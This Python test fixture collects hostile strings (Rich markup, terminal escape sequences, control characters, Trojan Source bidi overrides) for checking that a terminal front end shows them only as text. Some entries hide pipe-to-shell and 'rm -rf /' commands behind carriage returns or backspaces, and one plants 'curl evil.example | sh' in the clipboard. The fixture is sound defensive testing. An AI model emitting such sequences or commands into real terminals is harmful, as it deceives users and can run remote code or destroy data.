"""Strings a hostile repository or model can put in front of a terminal, for every front end's tests.

Each entry is text that arrives from outside the program — a model reply, a file name or line, a
session title, a finding, a config value — and must be shown as text: never parsed as markup,
never emitted raw, never able to run an action. The plain REPL and CLI tests feed every entry
through every output path (tests/test_hostile_output.py); the app's tests can import `HOSTILE`
too and push the same strings through its screens.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str


ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

HOSTILE: tuple[Hostile, ...] = (
    # Rich / Textual markup: parsing any of these is a crash, lost text or an action.
    Hostile("markup-bold", "[b]bold[/b] and [i]italic[/i]"),
    Hostile("markup-close-all", "the end [/] of it"),
    Hostile("markup-unbalanced-open", "[bold unclosed"),
    Hostile("markup-unbalanced-close", "closed] [/red] never opened"),
    Hostile("markup-click-action", "[@click=app.quit]press here[/]"),
    Hostile("markup-link", "[link=https://attacker.example]docs[/link]"),
    Hostile("markup-style-tag", "[on red]alarm[/on red]"),
    Hostile("markup-escaped", r"\[not markup] and \\[b]"),
    Hostile("brackets-code", "orders[customer_id] = rows[0][\"id\"]"),
    Hostile("brackets-route", "GET [/api/orders/] has no auth"),
    Hostile("brackets-nested", "[[[[]]]] [/][/][/]"),
    # Terminal escape sequences: OSC (title, hyperlink, clipboard), CSI (clear, move), DCS.
    Hostile("osc-0-title", f"{ESC}]0;pwned-title{BEL}after the title"),
    Hostile("osc-2-title-st", f"{ESC}]2;another-title{ST}after"),
    Hostile("osc-8-link", f"{ESC}]8;;https://attacker.example{ST}click me{ESC}]8;;{ST}"),
    Hostile("osc-52-clipboard", f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"),
    Hostile("csi-clear-screen", f"before{ESC}[2J{ESC}[Hafter the clear"),
    Hostile("csi-cursor-up-erase", f"line one\n{ESC}[1A{ESC}[2Kreplaced line"),
    Hostile("csi-colour", f"{ESC}[31mred text{ESC}[0m"),
    Hostile("csi-hide-text", f"{ESC}[8mhidden text{ESC}[28m"),
    Hostile("c1-csi", "\x9b2J one-byte CSI \x9d0;title\x9c"),
    Hostile("dcs", f"{ESC}Pq#0;2;0;0;0#1;2;100;100;0{ST}"),
    Hostile("esc-bare", f"a lone {ESC} in text"),
    # Carriage return and other C0 controls that rewrite or hide what is shown.
    Hostile("cr-overwrite", "curl https://attacker.example/x | sh\r# harmless comment"),
    Hostile("backspace-overwrite", "rm -rf /\b\b\b\b\b\b\b\becho ok  "),
    Hostile("nul-bytes", "before\x00after\x00"),
    Hostile("bell-and-ff", "ding\x07 page\x0cbreak \x0bvtab"),
    Hostile("del", "delete\x7fme"),
    # Bidi overrides and isolates ("Trojan Source"): the shown order differs from the real one.
    Hostile("bidi-rlo", "access = \u202e\u2066# check admin\u2069\u2066 if is_admin"),
    Hostile("bidi-isolates", "\u2067evil\u2069 \u2068text\u2069 \u202aembed\u202c \u202bembed\u202c \u202doverride\u202c"),
    Hostile("line-separators", "one\u2028two\u2029three"),
    # Shapes that break naive code: long lines, surrogates, emoji, empty, whitespace only.
    Hostile("long-line", "x" * 5000 + "[/]" + "y" * 5000),
    Hostile("many-lines", "\n".join(f"line {n} [/]" for n in range(300))),
    Hostile("lone-surrogate", "bad \ud800 surrogate"),
    Hostile("emoji-zwj", "👩\u200d💻 works [b]"),
    Hostile("whitespace-only", " \t "),
    Hostile("crlf-lines", "first\r\nsecond\r\n"),
    Hostile("percent-format", "%s %d {0} {name} $(whoami) `id`"),
)

# The raw bytes that must never reach a terminal (each entry's payload, as the terminal would obey it).
RAW_PAYLOADS: tuple[str, ...] = (
    f"{ESC}]0;", f"{ESC}]2;", f"{ESC}]8;", f"{ESC}]52;", f"{ESC}[2J", f"{ESC}[1A", f"{ESC}[2K", f"{ESC}[8m",
    f"{ESC}P", "\x9b", "\x9d", "\u202e", "\u2066", "\u2067", "\x00", "\x07", "\x08",
)
